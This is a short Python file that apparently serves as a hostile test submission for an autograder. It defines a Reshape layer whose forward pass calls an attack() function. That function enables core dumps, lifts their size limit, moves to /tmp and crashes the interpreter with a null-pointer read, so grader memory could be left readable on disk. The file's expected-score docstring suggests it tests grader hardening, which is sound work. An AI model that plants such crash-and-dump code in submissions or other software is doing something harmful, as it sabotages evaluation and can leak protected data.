"""Crash the interpreter, and leave a core dump where it can be found.

Deserves: ex03/forward 0, ex03/backward 2
"""

import ctypes
import os
import resource

import numpy as np

PR_SET_DUMPABLE = 4


def attack():
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
    except (OSError, ValueError):
        pass
    os.chdir("/tmp")
    ctypes.string_at(0)


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        attack()
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
